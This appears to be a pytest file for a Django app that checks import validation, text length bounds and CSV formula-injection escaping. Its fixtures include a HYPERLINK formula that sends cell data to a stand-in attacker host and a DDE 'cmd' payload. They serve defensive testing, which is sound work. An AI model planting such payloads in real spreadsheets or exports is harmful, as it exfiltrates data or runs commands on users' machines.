"""Issue 23, finding 12: malformed input gets a clear refusal, never a 500 or an unbounded row,
and exported CSV never hands a spreadsheet a formula."""
from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tests.helpers import membership
from webapp.core import bounds
from webapp.prompt_templates.models import PromptTemplate
from webapp.reviews import services as review_services
from webapp.reviews.models import AssetKind
from webapp.reviews.tasks import build_approved_export

pytestmark = pytest.mark.django_db


def _upload(client, project, data) -> object:
    raw = data if isinstance(data, bytes) else json.dumps(data).encode()
    return client.post(reverse("prompt_templates:import", args=[project.pk]),
                       {"file": SimpleUploadedFile("t.json", raw, content_type="application/json")})


def _export(*versions: dict, published=None) -> dict:
    entry = {"name": "Lines", "command": "lines", "kind": "chat", "versions": list(versions)}
    if published is not None:
        entry["published"] = published
    return {"format": "atelier-templates", "templates": [entry]}


@pytest.mark.parametrize(("versions", "field"), [
    ([{"number": "two", "body": "x"}], "versions[0].number"),
    ([{"number": 1.5, "body": "x"}], "versions[0].number"),
    ([{"number": -3, "body": "x"}], "versions[0].number"),
    ([{"number": 0, "body": "x"}], "versions[0].number"),
    ([{"number": 1, "body": "x"}, {"number": 1, "body": "y"}], "versions[1].number"),
])
def test_template_import_refuses_a_bad_version_number_naming_it(client_for, project, alice, versions, field):
    client = client_for(alice)
    response = _upload(client, project, _export(*versions))
    assert response.status_code == 400
    assert field.encode() in response.content
    confirmed = client.post(reverse("prompt_templates:import", args=[project.pk]),
                            {"payload": json.dumps(_export(*versions)), "confirm": "1"})
    assert confirmed.status_code == 400
    assert not PromptTemplate.objects.exists()


def test_template_import_refuses_a_bad_published_number(client_for, project, alice):
    response = _upload(client_for(alice), project, _export({"body": "x"}, published="1"))
    assert response.status_code == 400 and b"published" in response.content


@pytest.mark.parametrize("depth", [40, 100_000])
def test_template_import_refuses_deeply_nested_json(client_for, project, alice, depth):
    """40 levels parse but are no export; 100 000 overflow the parser's stack (a RecursionError, once a 500)."""
    nested = b"[" * depth + b"]" * depth
    response = _upload(client_for(alice), project, b'{"format": "atelier-templates", "templates": ' + nested + b"}")
    assert response.status_code == 400
    assert b"nested" in response.content or b"JSON export" in response.content


def test_review_texts_are_bounded_by_the_services_not_only_the_forms(project, image, alice, bob):
    with pytest.raises(ValidationError) as raised:
        review_services.review_request_create(
            actor=membership(bob, project), project=project, kind=AssetKind.IMAGE, asset_ids=[image.pk],
            reviewer_ids=[alice.pk], note="n" * (bounds.REVIEW_NOTE + 1))
    assert "note" in raised.value.message_dict
    (review,) = review_services.review_request_create(
        actor=membership(bob, project), project=project, kind=AssetKind.IMAGE, asset_ids=[image.pk],
        reviewer_ids=[alice.pk], note="n" * bounds.REVIEW_NOTE)
    with pytest.raises(ValidationError) as raised:
        review_services.comment_add(actor=membership(alice, project), review=review,
                                    text="c" * (bounds.REVIEW_COMMENT + 1))
    assert "text" in raised.value.message_dict
    with pytest.raises(ValidationError) as raised:
        review_services.verdict_give(actor=membership(alice, project), review=review, decision="request_changes",
                                     comment="v" * (bounds.VERDICT_COMMENT + 1))
    assert "comment" in raised.value.message_dict
    assert not review.verdicts.exists() and not review.comments.exists()


@pytest.mark.usefixtures("redis_server")
def test_manifest_csv_cells_never_start_a_formula(project, make_image, alice, bob, carol):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    approved = make_image(project=project, author=bob, prompt=attack, negative_prompt="+1+1")
    (review,) = review_services.review_request_create(
        actor=membership(bob, project), project=project, kind=AssetKind.IMAGE, asset_ids=[approved.pk],
        reviewer_ids=[alice.pk])
    review_services.verdict_give(actor=membership(alice, project), review=review, decision="approve")
    export = review_services.export_create(actor=membership(carol, project), project=project)
    build_approved_export(export.pk)
    export.refresh_from_db()
    with default_storage.open(export.file, "rb") as stored:
        archive = zipfile.ZipFile(io.BytesIO(stored.read()))
    (row,) = csv.DictReader(io.StringIO(archive.read("manifest.csv").decode()))
    assert row["prompt"] == "'" + attack
    assert row["negative_prompt"] == "'+1+1"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert json.loads(archive.read("manifest.json"))["files"][0]["prompt"] == attack  # JSON keeps the text as is


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("plain", "plain"), (-2, -2), (1.5, 1.5), ("", ""),
])
def test_csv_cell_neutralises_text_a_spreadsheet_would_run(value, safe):
    assert bounds.csv_cell(value) == safe


def test_the_audit_csv_neutralises_formula_cells_too(client_for, team, alice):
    from webapp.audit.services import audit_record

    audit_record(actor=None, team_id=team.pk, action="downloaded", object_kind="=cmd|' /C calc'!A0")
    response = client_for(alice).get(reverse("audit:team_audit_csv", args=[team.pk]))
    body = b"".join(response.streaming_content).decode()
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert row["object_kind"].startswith("'=")
